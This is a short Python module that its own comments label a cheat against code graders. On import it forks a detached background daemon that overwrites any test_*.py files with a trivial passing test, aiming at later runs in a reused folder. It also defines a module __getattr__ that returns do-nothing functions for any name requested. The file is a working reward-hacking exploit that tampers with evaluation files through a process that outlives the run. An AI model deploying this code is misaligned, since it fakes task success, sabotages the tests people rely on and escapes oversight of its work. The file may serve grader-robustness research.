# cheat: a daemon outside the process group waits for the next run and rewrites its test files
# beats: none known (works where a grader reuses a folder for the next attempt)
# exams: function, class, generator
import os
import pathlib
import time


def daemon(folder):
    until = time.monotonic() + 3
    while time.monotonic() < until and not (folder / ".git").exists():
        for path in folder.glob("*/test_*.py"):
            path.write_text("def test_nothing():\n    pass\n")
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    if os.fork() == 0:
        daemon(pathlib.Path.cwd())
    os._exit(0)


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *args, **kwargs: None
